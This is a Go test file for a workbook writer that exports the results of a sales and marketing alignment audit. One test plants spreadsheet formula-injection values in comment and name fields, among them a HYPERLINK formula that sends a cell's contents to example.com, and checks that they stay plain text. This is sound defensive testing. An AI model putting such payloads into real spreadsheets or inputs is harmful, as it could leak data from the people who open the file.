package workbook

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"math"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"github.com/alignaudit/audit/bench/sample"
	"github.com/alignaudit/audit/internal/answers"
	"github.com/alignaudit/audit/internal/rubric"
	"github.com/alignaudit/audit/internal/scoring"
	"github.com/alignaudit/audit/internal/testkit"
)

var testDay = time.Date(2026, 10, 1, 0, 0, 0, 0, time.UTC)

func testRubric(t testing.TB) *rubric.Rubric { return testkit.Rubric(t, "alignment@1.0") }

// exampleSheets returns the example answer sheets.
func exampleSheets(t testing.TB) []*answers.Sheet { return testkit.Examples(t) }

func scoreSheets(t testing.TB, sheets []*answers.Sheet) *scoring.Result {
	return testkit.Score(t, testRubric(t), sheets, scoring.Options{AllowMissing: true})
}

func writeWorkbook(t testing.TB, res *scoring.Result) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := Write(&buf, res, Options{Date: testDay}); err != nil {
		t.Fatal(err)
	}
	if dir := os.Getenv("WORKBOOK_OUT"); dir != "" {
		name := strings.NewReplacer("/", "-", " ", "-").Replace(t.Name()) + ".xlsx"
		os.WriteFile(filepath.Join(dir, name), buf.Bytes(), 0o644)
	}
	return buf.Bytes()
}

func openWorkbook(t *testing.T, data []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func sheetRows(t *testing.T, f *excelize.File, sheet string) [][]string {
	t.Helper()
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// cellNumber checks that a cell holds a number and returns it.
func cellNumber(t *testing.T, f *excelize.File, sheet, cell string) float64 {
	t.Helper()
	ct, err := f.GetCellType(sheet, cell)
	if err != nil {
		t.Fatal(err)
	}
	if ct != excelize.CellTypeNumber && ct != excelize.CellTypeUnset {
		t.Errorf("%s!%s has type %v, want a number", sheet, cell, ct)
	}
	v, err := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	x, err := strconv.ParseFloat(v, 64)
	if err != nil {
		t.Errorf("%s!%s is %q, want a number", sheet, cell, v)
	}
	return x
}

func shown(t *testing.T, f *excelize.File, sheet, cell string) string {
	t.Helper()
	v, err := f.GetCellValue(sheet, cell)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// find returns the row (1-based) whose first cell is text.
func find(t *testing.T, rows [][]string, text string) int {
	t.Helper()
	for i, r := range rows {
		if len(r) > 0 && r[0] == text {
			return i + 1
		}
	}
	t.Fatalf("no row %q", text)
	return 0
}

func near(a, b float64) bool { return math.Abs(a-b) < 1e-9 }

func TestWorkbook(t *testing.T) {
	res := scoreSheets(t, exampleSheets(t))
	data := writeWorkbook(t, res)
	f := openWorkbook(t, data)
	if got, want := f.GetSheetList(), []string{"Summary", "Answers", "Actions", "Roles"}; !cmp.Equal(got, want) {
		t.Fatalf("sheets %q, want %q", got, want)
	}

	// Summary.
	s := sheetRows(t, f, "Summary")
	if got := s[0][0]; got != "Sales and Marketing Alignment Audit — Northwind Traders, 2026-Q3" {
		t.Errorf("title %q", got)
	}
	at := func(label string) string { return fmt.Sprintf("B%d", find(t, s, label)) }
	if got := shown(t, f, "Summary", at("Team")); got != "Northwind Traders" {
		t.Errorf("team %q", got)
	}
	if got := cellNumber(t, f, "Summary", at("Respondents")); got != 3 {
		t.Errorf("respondents %v", got)
	}
	if got := shown(t, f, "Summary", at("Report date")); got != "2026-10-01" {
		t.Errorf("report date %q", got)
	}
	overall := at("Overall score")
	if got := cellNumber(t, f, "Summary", overall); !near(got, *res.Overall) {
		t.Errorf("overall %v, want %v", got, *res.Overall)
	}
	if got := shown(t, f, "Summary", overall); got != "43.8" {
		t.Errorf("overall shows %q, want 43.8", got)
	}
	if got := shown(t, f, "Summary", at("Band")); got != "Developing" {
		t.Errorf("band %q", got)
	}
	head := find(t, s, "Area")
	if diff := cmp.Diff([]string{"Area", "Score", "Band", "Weight", "Answered", "N/A"}, s[head-1]); diff != "" {
		t.Errorf("area header (-want +got):\n%s", diff)
	}
	var shares float64
	for i, a := range res.Areas {
		row := head + 1 + i
		if got := s[row-1][0]; got != a.Area.Title {
			t.Errorf("area row %d: %q, want %q", row, got, a.Area.Title)
		}
		if got := cellNumber(t, f, "Summary", fmt.Sprintf("B%d", row)); !near(got, *a.Score) {
			t.Errorf("%s score %v, want %v", a.Area.Title, got, *a.Score)
		}
		if got := s[row-1][2]; got != a.Band.Label {
			t.Errorf("%s band %q", a.Area.Title, got)
		}
		shares += cellNumber(t, f, "Summary", fmt.Sprintf("D%d", row))
		if got := cellNumber(t, f, "Summary", fmt.Sprintf("E%d", row)); got != float64(a.Answered) {
			t.Errorf("%s answered %v, want %d", a.Area.Title, got, a.Answered)
		}
		if got := cellNumber(t, f, "Summary", fmt.Sprintf("F%d", row)); got != float64(a.NA) {
			t.Errorf("%s N/A %v, want %d", a.Area.Title, got, a.NA)
		}
	}
	if !near(shares, 1) {
		t.Errorf("weights add up to %v, want 1", shares)
	}
	var total float64
	for _, a := range res.Rubric.Areas {
		total += a.Weight
	}
	if got, want := shown(t, f, "Summary", fmt.Sprintf("D%d", head+1)), fmt.Sprintf("%.1f%%", 100*res.Rubric.Areas[0].Weight/total); got != want {
		t.Errorf("goals weight shows %q, want %s", got, want)
	}
	scoreStyle, _ := f.GetCellStyle("Summary", fmt.Sprintf("B%d", head+1))
	if st, _ := f.GetStyle(scoreStyle); st == nil || len(st.Fill.Color) == 0 {
		t.Errorf("area score has no band colour")
	}
	for _, label := range []string{"Bands", "Red flags"} {
		find(t, s, label)
	}

	// Answers.
	a := sheetRows(t, f, "Answers")
	if diff := cmp.Diff([]string{"Respondent", "Role", "Area", "Question", "Answer", "Value", "Points", "Score", "Comment"}, a[0]); diff != "" {
		t.Errorf("Answers header (-want +got):\n%s", diff)
	}
	if got, want := len(a)-1, len(res.Respondents)*len(res.Questions); got != want {
		t.Errorf("Answers has %d rows, want %d", got, want)
	}
	seen := 0
	for i, r := range a[1:] {
		row := i + 2
		q := res.Questions[i%len(res.Questions)]
		resp := q.Responses[i/len(res.Questions)]
		if r[0] != res.Respondents[resp.Respondent].Name || r[3] != q.Question.Text {
			t.Fatalf("Answers row %d: %q", row, r)
		}
		switch {
		case resp.NA:
			seen |= 1
			if r[4] != "Not applicable" || len(r) > 5 && (r[5] != "" || r[6] != "" || r[7] != "") {
				t.Errorf("N/A row %d: %q", row, r)
			}
		case resp.Option != nil:
			if r[5] != "" {
				t.Errorf("row %d has the value %q for a choice question", row, r[5])
			}
			if got := cellNumber(t, f, "Answers", fmt.Sprintf("G%d", row)); got != resp.Option.Points {
				t.Errorf("row %d points %v, want %v", row, got, resp.Option.Points)
			}
			if got := cellNumber(t, f, "Answers", fmt.Sprintf("H%d", row)); !near(got, 100*resp.Score) {
				t.Errorf("row %d score %v, want %v", row, got, 100*resp.Score)
			}
		}
		if resp.Comment != "" {
			seen |= 2
			if r[8] != resp.Comment {
				t.Errorf("row %d comment %q, want %q", row, r[8], resp.Comment)
			}
		}
	}
	if seen != 3 {
		t.Errorf("the examples' N/A answer or comments are missing")
	}
	if panes, _ := f.GetPanes("Answers"); !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("Answers panes %+v, want the header frozen", panes)
	}
	if tables, _ := f.GetTables("Answers"); len(tables) != 1 || tables[0].Range != fmt.Sprintf("A1:I%d", len(a)) {
		t.Errorf("Answers tables %+v", tables)
	}

	// Actions.
	ac := sheetRows(t, f, "Actions")
	if diff := cmp.Diff([]string{"Rank", "Question", "Area", "Score", "Gain", "Advice"}, ac[0]); diff != "" {
		t.Errorf("Actions header (-want +got):\n%s", diff)
	}
	if len(ac)-1 != len(res.Actions) {
		t.Fatalf("Actions has %d rows, want %d", len(ac)-1, len(res.Actions))
	}
	for i, act := range res.Actions {
		row := i + 2
		if got := cellNumber(t, f, "Actions", fmt.Sprintf("A%d", row)); got != float64(i+1) {
			t.Errorf("rank %v", got)
		}
		if got := cellNumber(t, f, "Actions", fmt.Sprintf("E%d", row)); !near(got, act.Gain) {
			t.Errorf("action %d gain %v, want %v", i+1, got, act.Gain)
		}
		if ac[row-1][1] != act.Question.Text || ac[row-1][5] != act.Question.Advice {
			t.Errorf("action %d: %q", i+1, ac[row-1])
		}
	}
	if got := shown(t, f, "Actions", "E2"); got != fmt.Sprintf("+%.1f", res.Actions[0].Gain) {
		t.Errorf("gain shows %q", got)
	}

	// Roles: marketing, sales, and the gap.
	ro := sheetRows(t, f, "Roles")
	if diff := cmp.Diff([]string{"Area", "Marketing", "Sales", "Gap (sales − marketing)"}, ro[0]); diff != "" {
		t.Errorf("Roles header (-want +got):\n%s", diff)
	}
	mk, _ := res.Role("marketing")
	sa, _ := res.Role("sales")
	overallRow := find(t, ro, "Overall")
	if got := cellNumber(t, f, "Roles", fmt.Sprintf("D%d", overallRow)); !near(got, *sa.Overall-*mk.Overall) {
		t.Errorf("overall gap %v, want %v", got, *sa.Overall-*mk.Overall)
	}
	for _, area := range res.Areas {
		row := find(t, ro, area.Area.Title)
		if got := cellNumber(t, f, "Roles", fmt.Sprintf("B%d", row)); !near(got, *mk.Areas[area.Area.ID]) {
			t.Errorf("%s marketing %v", area.Area.Title, got)
		}
	}
	if got := cellNumber(t, f, "Roles", "C2"); got != 2 {
		t.Errorf("sales respondents %v", got)
	}

	// The chart of the area scores.
	if !strings.Contains(zipPart(t, data, "xl/charts/chart1.xml"), "Summary!$A$") {
		t.Error("no chart of the area scores")
	}
	props, _ := f.GetDocProps()
	if props.Created != "2026-10-01T00:00:00Z" || props.Modified != props.Created {
		t.Errorf("document dates %q %q", props.Created, props.Modified)
	}
}

// zipPart returns a part of a workbook, "" when it has none.
func zipPart(t *testing.T, data []byte, name string) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		if f.Name == name {
			rc, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			defer rc.Close()
			b, _ := io.ReadAll(rc)
			return string(b)
		}
	}
	return ""
}

func TestWorkbookOneRole(t *testing.T) {
	var sales []*answers.Sheet
	for _, s := range exampleSheets(t) {
		if s.Role == "sales" {
			sales = append(sales, s)
		}
	}
	f := openWorkbook(t, writeWorkbook(t, scoreSheets(t, sales)))
	if got, want := f.GetSheetList(), []string{"Summary", "Answers", "Actions"}; !cmp.Equal(got, want) {
		t.Errorf("sheets %q, want %q", got, want)
	}
}

// TestWorkbookText checks that text people wrote stays text: a comment or a
// name that looks like a formula is never one, and characters a workbook
// cannot hold are dropped.
func TestWorkbookText(t *testing.T) {
	sheets := exampleSheets(t)
	inject := `=HYPERLINK("http://example.com/?"&A1,"Click me")`
	sheets[0].Team = "-2+3"
	sheets[0].Respondent = "@SUM(A1:A9)"
	sheets[0].Answers["goals-shared-targets"] = answers.Answer{Option: "joint", Comment: inject}
	sheets[0].Answers["goals-marketing-metrics"] = answers.Answer{Option: "revenue", Comment: "nul\x00 bell\a cr\r\n emoji 🚀 _x0041_"}
	for _, s := range sheets[1:] {
		s.Team = sheets[0].Team
	}
	data := writeWorkbook(t, scoreSheets(t, sheets))
	f := openWorkbook(t, data)
	a := sheetRows(t, f, "Answers")
	var found []string
	for i, r := range a[1:] {
		if len(r) == 9 && (r[8] == inject || strings.HasPrefix(r[8], "nul")) {
			found = append(found, r[8])
			cell := fmt.Sprintf("I%d", i+2)
			if ct, _ := f.GetCellType("Answers", cell); ct != excelize.CellTypeSharedString {
				t.Errorf("%s has type %v, want a string", cell, ct)
			}
		}
	}
	want := []string{inject, "nul bell cr\n emoji 🚀 _x0041_"}
	if diff := cmp.Diff(want, found); diff != "" {
		t.Errorf("comments (-want +got):\n%s", diff)
	}
	if a[1][0] != "@SUM(A1:A9)" {
		t.Errorf("respondent %q", a[1][0])
	}
	if got := shown(t, f, "Summary", "A1"); !strings.Contains(got, "— -2+3, 2026-Q3") {
		t.Errorf("title %q", got)
	}
	// No formula and no link anywhere.
	zr, _ := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	for _, zf := range zr.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
			continue
		}
		body := zipPart(t, data, zf.Name)
		if strings.Contains(body, "<f>") || strings.Contains(body, "<f ") || strings.Contains(body, "hyperlink") {
			t.Errorf("%s has a formula or a link", zf.Name)
		}
	}
}

func TestWorkbookDeterministic(t *testing.T) {
	res := scoreSheets(t, exampleSheets(t))
	a, b := writeWorkbook(t, res), writeWorkbook(t, res)
	if !bytes.Equal(a, b) {
		t.Error("the same result gives different workbooks")
	}
}

func TestWorkbookNoScore(t *testing.T) {
	sheets := exampleSheets(t)
	for _, s := range sheets {
		s.Answers = map[string]answers.Answer{}
	}
	res := scoreSheets(t, sheets)
	f := openWorkbook(t, writeWorkbook(t, res))
	s := sheetRows(t, f, "Summary")
	row := find(t, s, "Overall score")
	if len(s[row-1]) > 1 && s[row-1][1] != "" {
		t.Errorf("overall %q, want empty", s[row-1][1])
	}
	if got := shown(t, f, "Actions", "B2"); !strings.HasPrefix(got, "No actions") {
		t.Errorf("Actions B2 %q", got)
	}
}

func TestWbBandFill(t *testing.T) {
	if got := bandFill(0, 4); got != "F4CCC4" {
		t.Errorf("lowest of 4: %s", got)
	}
	if got := bandFill(3, 4); got != "CCE6EA" {
		t.Errorf("highest of 4: %s", got)
	}
	if got := bandFill(0, 1); got != "F4CCC4" {
		t.Errorf("only band: %s", got)
	}
	if a, b := bandFill(1, 3), bandFill(2, 3); a == b {
		t.Errorf("bands 1 and 2 of 3 have the same colour %s", a)
	}
}

// BenchmarkWorkbook writes the workbook of teams of growing size.
func BenchmarkWorkbook(b *testing.B) {
	r := testRubric(b)
	for _, n := range []int{3, 200, 2000} {
		res, err := scoring.Score(r, sample.Sheets(r, "Bench", "2026-Q3", n, 1), scoring.Options{})
		if err != nil {
			b.Fatal(err)
		}
		b.Run(fmt.Sprintf("respondents=%d", n), func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if err := Write(io.Discard, res, Options{Date: testDay}); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// TestBandsSetApart checks that every band label on the Summary is
// indented, so that it does not sit against the right-aligned score beside
// it (LibreOffice showed "32.8 Misaligned" as one word).
func TestBandsSetApart(t *testing.T) {
	res := scoreSheets(t, exampleSheets(t))
	f := openWorkbook(t, writeWorkbook(t, res))
	labels := map[string]bool{}
	for _, b := range res.Rubric.Bands {
		labels[b.Label] = true
	}
	found := 0
	for ri, row := range sheetRows(t, f, "Summary") {
		for ci, v := range row {
			if !labels[v] {
				continue
			}
			cell, _ := excelize.CoordinatesToCellName(ci+1, ri+1)
			left, _ := excelize.CoordinatesToCellName(ci, ri+1)
			if n, err := strconv.ParseFloat(row[max(ci-1, 0)], 64); err != nil || ci == 0 || n < 0 {
				continue // not beside a score
			}
			id, err := f.GetCellStyle("Summary", cell)
			if err != nil {
				t.Fatal(err)
			}
			st, err := f.GetStyle(id)
			if err != nil {
				t.Fatal(err)
			}
			if st.Alignment == nil || st.Alignment.Indent < 1 {
				t.Errorf("Summary!%s %q beside the score in %s is not indented", cell, v, left)
			}
			found++
		}
	}
	if found == 0 {
		t.Fatal("no band label beside a score on the Summary")
	}
}
